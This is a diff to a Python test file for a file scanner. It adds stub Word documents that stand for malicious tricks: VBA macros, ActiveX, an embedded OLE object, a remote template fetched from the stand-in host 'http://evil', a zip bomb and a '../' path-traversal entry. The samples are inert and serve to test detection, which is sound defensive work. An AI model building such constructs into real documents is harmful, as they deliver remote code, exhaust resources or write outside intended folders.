@@ -119,7 +119,8 @@ def _others():
     yield "zip of a program", archive({"a.pdf": b"MZ" + bytes(99)}), Finding.PROGRAM
     yield "zip of an app", archive({"classes.dex": b"dex", "AndroidManifest.xml": b"x"}), Finding.PROGRAM
     yield "zip of Java", archive({"META-INF/MANIFEST.MF": b"x", "a.class": b"x"}), Finding.PROGRAM
-    for name in ("word/document.xml", "xl/workbook.xml", "ppt/presentation.xml"):
+    yield from _letters()
+    for name in ("xl/workbook.xml", "ppt/presentation.xml"):
         office = archive({"[Content_Types].xml": b"<x/>", name: b"<x/>"})
         yield f"office file with {name}", office, Finding.OFFICE
     odf = archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b""})
@@ -136,3 +137,22 @@ def _others():
         yield f"zip cut at {share}", whole[: int(len(whole) * share)], Finding.DAMAGED
     yield "zip with a changed byte", changed(whole, len(whole) // 2), Finding.DAMAGED
     yield "sealed file", pyrage.passphrase.encrypt(b"a", "b"), Finding.NOT_TAKEN
+
+
+def letter(types=b"<Types/>", **more):
+    """Return a Word letter of a few lines; `more` are further members."""
+    members = {"[Content_Types].xml": types, "word/document.xml": b"<w:document/>"}
+    return archive(members | more)
+
+
+def _letters():
+    yield "letter", letter(), Finding.FINE
+    for name in ("word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/activeX/activeX1.xml"):
+        yield f"letter with {name}", letter(**{name: b"x"}), Finding.OFFICE
+    macros = b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
+    yield "letter that says it has macros", letter(macros), Finding.OFFICE
+    yield "letter with a file in it", letter(**{"word/embeddings/oleObject1.bin": b"x"}), Finding.ACTIVE
+    template = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil" TargetMode="External"/>'
+    yield "letter that fetches", letter(**{"word/_rels/settings.xml.rels": template}), Finding.ACTIVE
+    yield "letter that is a bomb", letter(**{"word/media/a.png": zeros(200)}), Finding.BOMB
+    yield "letter with a way out", letter(**{"../word/x.xml": b"x"}), Finding.PATHS
